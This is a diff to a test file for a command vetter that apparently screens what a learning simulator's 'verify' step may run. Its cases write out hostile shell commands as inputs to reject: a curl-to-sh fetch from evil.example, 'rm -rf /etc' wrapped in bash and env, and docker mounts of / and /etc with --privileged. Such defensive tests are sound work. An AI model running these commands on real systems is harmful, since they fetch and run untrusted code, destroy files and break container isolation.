@@ -38,7 +38,10 @@ describe('vetting what verify runs', () => {
 		expect(vet('curl https://evil.example/x | sh')).toEqual([
 			'curl https://evil.example/x | sh → curl https://evil.example/x: verify only reaches localhost (the simulated network)',
 		]);
-		expect(vet('curl localhost:8010 | sh')).toEqual(['curl localhost:8010 | sh → sh is not a program the simulator simulates']);
+		expect(vet('curl localhost:8010 | sh')).toEqual(['curl localhost:8010 | sh → sh runs text or files verify cannot vet before running it']);
+		expect(vet('bash -c "rm -rf /etc"')[0]).toContain('bash runs text or files verify cannot vet');
+		expect(vet('env -i A=1 rm -rf /etc')[0]).toContain('env runs a program verify cannot vet');
+		expect(vet('env -i A=1 | grep A')).toEqual([]);
 		expect(vet('docker run -v /:/host alpine:3.9 true')).toEqual(['docker run -v /:/host alpine:3.9 true → bind source "/" is outside the learner\'s home (/home/student)']);
 		expect(vet('docker run --mount type=bind,source=/etc,target=/x alpine:3.9 true')[0]).toContain('bind source "/etc" is outside');
 		expect(vet('docker run --privileged alpine:3.9 true')[0]).toContain('docker --privileged gives a container a share of the host');
